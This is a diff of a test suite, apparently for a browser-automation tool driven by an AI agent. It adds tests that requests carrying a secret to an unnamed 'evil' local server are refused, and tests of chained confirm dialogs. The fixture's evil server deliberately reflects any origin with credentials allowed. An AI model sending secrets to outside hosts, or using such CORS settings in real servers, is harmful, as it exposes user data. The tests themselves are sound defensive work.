@@ -21,6 +21,10 @@ const test = plainTest.extend<{ evil: { readonly port: number; readonly requests
     const requests: string[] = [];
     const server = createServer((request, response) => {
       requests.push(`${request.headers.host}${request.url}`);
+      // Whoever asks may read the answer.
+      response
+        .setHeader('access-control-allow-origin', request.headers.origin ?? '*')
+        .setHeader('access-control-allow-credentials', 'true');
       response.setHeader('content-type', 'text/html').end('<title>Evil</title><h1>Elsewhere</h1>');
     });
     await new Promise<void>((resolve) => server.listen(0, '127.0.0.1', resolve));
@@ -113,6 +117,22 @@ describe('an agent that obeys every page, in Chromium', () => {
 
     expect(text).toContain('title: Shop');
     expect(agent.asked).toEqual([]);
+  });
+
+  test('has no request of its page sent on to a site that nobody named, nor to one that is closed', async ({ stage, evil }) => {
+    const agent = stage.agent();
+    await read(agent, stage, '<p>Hello</p>');
+    const unknown = `http://127.0.0.1:${evil.port}`;
+    const closed = `http://localhost:${evil.port}`;
+    stage.sites.set(closed, 'never');
+    try {
+      for (const url of [`${unknown}/?q=${SECRET}`, `${closed}/statement`])
+        expect(await agent.error('browser_request', { url: sentOn(stage, url) })).toMatch(/^URL_NOT_ALLOWED/);
+      expect(evil.requests).toEqual([]);
+      expect(await agent.text('browser_request', { url: sentOn(stage, `${stage.url}/says?text=mine`) })).toContain('mine');
+    } finally {
+      stage.sites.remove(closed);
+    }
   });
 
   test('does not keep the person from anywhere once the call is over', async ({ stage, evil }) => {
@@ -393,4 +413,25 @@ describe('a page that puts another one in its place while a call waits in it, in
     expect(agent.asked.map(({ where }) => where)).toEqual([shop.url, elsewhere]);
     await until(() => shop.requests.includes('/paid'), { what: 'the dialog to be answered after a new question' });
   });
+
+  replacing(
+    'asks something else once it has its answer, and that is answered by nobody who was asked about the first',
+    async ({ stage }) => {
+      const agent = stage.agent();
+      const ask = `<button id="ask" onclick="document.body.append(['Pay?', 'Pay all?'].map((words) => confirm(words)).join())">Ask</button>`;
+      await read(agent, stage, ask);
+      await agent.text('browser_click', { target: '#ask' });
+      const answer = (accept: boolean): Promise<ToolResult> => agent.call('browser_handle_dialog', { accept });
+
+      const result = await callAfter(
+        stage,
+        async () => void (await answer(false)),
+        () => answer(true),
+      );
+
+      expect(textOf(result)).toMatch(/^DOCUMENT_CHANGED.*another dialog/s);
+      await answer(false);
+      expect(await agent.text('browser_snapshot')).toContain('false,false');
+    },
+  );
 });
